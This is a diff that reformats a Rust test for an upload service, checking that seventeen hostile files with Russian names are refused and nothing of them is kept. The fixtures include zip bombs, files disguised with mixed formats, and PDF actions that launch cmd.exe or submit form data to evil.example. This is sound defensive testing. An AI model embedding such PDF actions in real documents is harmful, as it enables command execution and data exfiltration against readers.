@@ -92,8 +92,11 @@ fn long_pdf(pages: usize) -> Vec<u8> {
     let whole = pdf("", 1, &vec![page; pages - 1]);
     let kids: String = (3..pages + 3).map(|id| format!("{id} 0 R ")).collect();
     let text = String::from_utf8(whole).unwrap();
-    text.replace("/Count 1/Kids[3 0 R ]", &format!("/Count {pages}/Kids[{kids}]"))
-        .into_bytes()
+    text.replace(
+        "/Count 1/Kids[3 0 R ]",
+        &format!("/Count {pages}/Kids[{kids}]"),
+    )
+    .into_bytes()
 }
 
 fn packed(bytes: &[u8]) -> Vec<u8> {
@@ -183,7 +186,11 @@ fn every_hostile_file_is_refused_by_name_and_nothing_is_kept_of_it() {
     let hostile: [(&str, Vec<u8>, &str); 17] = [
         ("страница.jpg", page_of_html.to_vec(), "страница"),
         ("программа.pdf", b"MZ\x90\0\x03\0\0\0".to_vec(), "программа"),
-        ("рисунок.jpg", b"<svg xmlns='http://www.w3.org/2000/svg'/>".to_vec(), "рисунок"),
+        (
+            "рисунок.jpg",
+            b"<svg xmlns='http://www.w3.org/2000/svg'/>".to_vec(),
+            "рисунок",
+        ),
         ("бомба.pdf", zip_bomb(), "архив"),
         ("большой.pdf", large, "25"),
         ("точки.jpg", swollen_jpeg(65_500, 65_500), "60"),
@@ -191,11 +198,19 @@ fn every_hostile_file_is_refused_by_name_and_nothing_is_kept_of_it() {
         ("страницы.pdf", long_pdf(10_000), "500"),
         ("скрипт.pdf", acting(script), "скрипт"),
         ("запуск.pdf", acting("<</S/Launch/F(cmd.exe)>>"), "запуск"),
-        ("отправка.pdf", acting("<</S/SubmitForm/F(http://evil.example)>>"), "отправка"),
+        (
+            "отправка.pdf",
+            acting("<</S/SubmitForm/F(http://evil.example)>>"),
+            "отправка",
+        ),
         ("двое.pdf", joined(&pdf("", 1, &[]), &zip_bomb()), "двое"),
         ("двое.jpg", joined(JPEG, &zip_bomb()), "двое"),
         ("трое.jpg", joined(JPEG, page_of_html), "трое"),
-        ("четверо.pdf", joined(&pdf("", 1, &[]), page_of_html), "четверо"),
+        (
+            "четверо.pdf",
+            joined(&pdf("", 1, &[]), page_of_html),
+            "четверо",
+        ),
         ("обрыв.jpg", JPEG[..JPEG.len() / 2].to_vec(), "обрыв"),
         ("пусто.pdf", Vec::new(), "пусто"),
     ];
@@ -204,7 +219,10 @@ fn every_hostile_file_is_refused_by_name_and_nothing_is_kept_of_it() {
         let text = answer.text();
         assert_eq!(answer.status, 422, "{name}: {text}");
         assert!(text.contains(told), "{name}: «{told}» is not in {text}");
-        assert!(!text.contains("<li><div class=\"what\">"), "{name} is listed");
+        assert!(
+            !text.contains("<li><div class=\"what\">"),
+            "{name} is listed"
+        );
     }
     let kept = house
         .raw()
